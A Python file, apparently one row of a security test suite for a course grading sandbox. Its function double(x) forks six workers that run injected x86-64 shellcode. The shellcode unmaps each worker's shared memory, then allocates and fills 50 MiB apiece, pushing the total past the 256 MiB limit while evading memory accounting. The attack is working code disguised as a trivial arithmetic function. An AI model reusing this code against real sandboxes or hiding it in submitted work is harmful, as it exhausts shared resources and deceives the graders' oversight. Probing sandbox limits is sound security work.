"""Row 52: workers that give back the memory they share with their parent and take as much of their own:
not seen, and bounded by the number of processes (docs/security.md).

outcome: PASSED
topic: procs
"""

import ctypes
import mmap
import os
import platform
import struct
import time
from pathlib import Path

# munmap each (begin, size) of the table, mmap and fill what follows it, then pause for ever: no byte of
# Python's own memory is needed any more.
CODE = bytes.fromhex(
    "4889fb488b3b488b73084885f6740d"
    "b80b0000000f054883c310ebe7"
    "31ff488b7310ba0300000041ba2200000049c7c0ffffffff4d31c9b8090000000f05"
    "4889c7488b4b10b001f3aa"
    "b8220000000f05ebf7"
)
HOARD = 50 << 20  # six of them are over the course's 256 MiB


def own_memory():
    """All but what holds the thread's own block, where the kernel writes to."""
    pthread_self = ctypes.CDLL(None).pthread_self
    pthread_self.restype = ctypes.c_void_p
    block = pthread_self()
    rows = [row.split() for row in Path("/proc/self/maps").read_text().splitlines()]
    ends = [[int(end, 16) for end in row[0].split("-")] for row in rows if row[5:] in ([], ["[heap]"])]
    return [(begin, end - begin) for begin, end in ends if not begin <= block < end]


def hoard(table):
    pages = mmap.mmap(-1, 1 << 16, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    pages.write(CODE.ljust(4096, b"\0") + b"".join(struct.pack("=QQ", *row) for row in table))
    pages.write(struct.pack("=QQQ", 0, 0, HOARD))
    place = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    ctypes.CFUNCTYPE(None, ctypes.c_void_p)(place)(place + 4096)


def double(x):
    if platform.machine() != "x86_64":
        raise MemoryError
    table = own_memory()
    for _ in range(6):
        if os.fork() == 0:
            hoard(table)
    time.sleep(0.5)
    if os.waitpid(-1, os.WNOHANG)[0]:
        raise RuntimeError("a worker did not live to hoard")
    return 2 * x
